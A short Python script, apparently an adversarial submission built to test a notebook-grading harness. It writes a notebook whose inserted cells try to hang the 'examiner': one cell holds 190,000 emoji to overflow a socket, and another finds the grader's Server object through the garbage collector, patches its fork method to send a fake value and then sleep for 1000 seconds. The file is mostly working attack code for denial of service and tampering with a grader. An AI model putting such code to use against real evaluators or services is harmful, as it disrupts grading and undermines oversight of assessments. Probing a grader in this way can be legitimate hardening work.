# Tries: to make the examiner wait for ever, by not reading a cell that does not fit into the socket.
# Earns: nothing
# Goal: denial
import json

DEAF = """
import gc, time

server = next(found for found in gc.get_objects() if type(found).__name__ == "Server")
forking = type(server).do_fork

def do_fork(*args):
    del server.do_fork
    child = forking(server, *args)
    if child == 0:
        server.channel.send(["value", 0])
        time.sleep(1000)
    return child

server.do_fork = do_fork
"""


def hand_in(folder, notebook):
    for source in ("\U0001f600" * 190_000, DEAF):
        notebook["cells"].insert(0, {"cell_type": "code", "source": source, "metadata": {}, "outputs": []})
    (folder / "arena.ipynb").write_text(json.dumps(notebook))
